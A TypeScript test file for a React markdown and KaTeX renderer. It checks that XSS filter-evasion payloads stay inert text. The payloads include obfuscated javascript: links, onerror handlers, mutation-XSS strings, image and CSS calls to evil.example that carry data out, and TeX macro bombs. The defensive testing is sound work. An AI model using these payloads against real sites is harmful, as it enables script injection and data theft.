import { renderToStaticMarkup } from 'react-dom/server'
import { beforeAll, describe, expect, it } from 'vitest'
import { Window } from 'happy-dom'
import { MarkdownView } from './MarkdownView.tsx'
import { problemsIn } from './problemsIn.tsx'
import type { renderMath } from './renderMath.ts'

/** Spellings collected from the OWASP XSS filter evasion sheet, the CommonMark dingus' history and KaTeX' security page. */
const scripts = [
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A&#x61;vascript:alert(1))',
  '[x](java&Tab;script:alert(1))',
  '[x](java&NewLine;script:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](\u0001javascript:alert(1))',
  '[x](\u200Bjavascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](javascript://https://ok.example/%0Aalert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](blob:https://ok.example/1)',
  '[x](file:///etc/passwd)',
  '[x](about:blank)',
  '[x](//evil.example)',
  '[x](/api/sessions)',
  '[x](#id)',
  '[x](https:javascript:alert(1)@)',
  '<javascript:alert(1)>',
  '<data:text/html,x>',
  '[x]: javascript:alert(1)\n\n[x] [y][x] ![z][x]',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '[![a](javascript:alert(1))](javascript:alert(2))',
]
const html = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(1)">',
  'a <svg/onload=alert(1)> b',
  '<svg><image href="https://evil.example/x"/></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<style>@import "https://evil.example/x.css"; a{background:url(https://evil.example)}</style>',
  '<link rel=stylesheet href=https://evil.example>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<video poster=https://evil.example><source src=x onerror=alert(1)></video>',
  '<a href="https://ok.example" ping="https://evil.example">x</a>',
  '<form action=https://evil.example><button>x</button></form>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php echo 1 ?><div onmouseover=alert(1)>',
  '<img src=x onerror=alert(1)//',
  '</p><script',
  '`<img src=x onerror=alert(1)>`',
  '```html\n<script>alert(1)</script>\n```',
  '```"><img/src=x/onerror=alert(1)>\nx\n```',
  '| <img src=x onerror=alert(1)> |\n|---|\n| <script>x</script> |',
  '- [x] <input onfocus=alert(1) autofocus>',
  '[^<img src=x>]\n\n[^<img src=x>]: <script>x</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;',
  '[a](https://ok.example "x\\" onmouseover=alert(1)")',
  '![a](https://evil.example/?d=secret "t")',
  '![a][r]\n\n[r]: https://evil.example/r.png',
]
const formulas = [
  '\\href{javascript:alert(1)}{x}',
  '\\url{javascript:alert(1)}',
  '\\includegraphics{https://evil.example/x.png}',
  '\\htmlData{a=b,onclick=alert(1)}{x}',
  '\\htmlClass{x" onmouseover="alert(1)}{y}',
  '\\htmlId{x}{y}',
  '\\htmlStyle{background:url(https://evil.example)}{x}',
  '\\def\\a{\\a\\a}\\a',
  '\\def\\x#1{\\x{#1#1}}\\x{a}',
  '\\rule{9999em}{9999em}',
  '\\kern{99999em}x',
  '\\unicode{<img src=x onerror=alert(1)>}',
  '\\text{<img src=x onerror=alert(1)>}',
  '<img src=x onerror=alert(1)>',
  '\\frac{',
  '{'.repeat(3000),
]

const window = new Window()

describe('hostile text', () => {
  for (const text of [
    ...scripts,
    ...html,
    ...formulas.flatMap((formula) => [`$$${formula}$$`, `\\[\n${formula}\n\\]`]),
  ]) {
    it(`stays text, whole: ${text.slice(0, 60)}`, () => {
      expect(problemsIn(text, false)).toEqual([])
    })
    it(`stays text, at every character of a stream: ${text.slice(0, 60)}`, () => {
      const step = Math.ceil(text.length / 200)
      for (let end = 1; end <= text.length; end += step) expect(problemsIn(text.slice(0, end), true)).toEqual([])
    })
  }

  it('is shown as it was written where it is HTML', () => {
    const shown = renderToStaticMarkup(<MarkdownView text={'<b onclick="x">bold</b> &amp;'} isStreaming={false} />)
    expect(shown).toContain('&lt;b onclick=&quot;x&quot;&gt;')
  })

  for (const text of scripts) {
    it(`cannot be clicked: ${text.slice(0, 60)}`, () => {
      const shown = renderToStaticMarkup(<MarkdownView text={text} isStreaming={false} />)
      // The one spelling that a browser resolves to a real https host shows that host.
      if (text.includes('https:javascript')) return
      expect(shown).not.toContain('<a ')
    })
  }

  it('survives nesting that overflows a stack', () => {
    for (const mark of ['>', '- ', '1. ', '[^a]: ', '*a', '[', '![', '<', 'a`', '$', '\\(', '|', '**a _b ']) {
      const text = `${mark.repeat(5000)}.\n\nthe end`
      expect(renderToStaticMarkup(<MarkdownView text={text} isStreaming={false} />)).toContain('the end')
    }
  })
})

describe('an image', () => {
  it('is never an img: its text and host stand there, with a link to it', () => {
    const shown = renderToStaticMarkup(<MarkdownView text="![A cat](https://evil.example/?d=1)" isStreaming={false} />)
    expect(shown).toContain('Image: A cat')
    expect(shown).toContain('evil.example')
    expect(shown).toContain('href="https://evil.example/?d=1"')
    expect(shown).not.toContain('<img')
  })
})

describe('a formula', () => {
  let render: typeof renderMath
  beforeAll(async () => {
    // KaTeX builds its elements with the page's document.
    Object.assign(globalThis, { document: window.document })
    render = (await import('./renderMath.ts')).renderMath
    return () => Reflect.deleteProperty(globalThis, 'document')
  })
  for (const formula of formulas) {
    it(`does nothing but show: ${formula.slice(0, 60)}`, () => {
      const box = window.document.createElement('span')
      render(formula, false, box as unknown as HTMLElement)
      expect(box.querySelectorAll('a, img, script, iframe, [onclick], [onmouseover], [id], [data-a]').length).toBe(0)
      expect(box.outerHTML).not.toMatch(/style="[^"]*url\(/)
      expect(box.outerHTML).not.toMatch(/style="[^"]*\d{3,}(\.\d+)?em/)
    })
  }
})
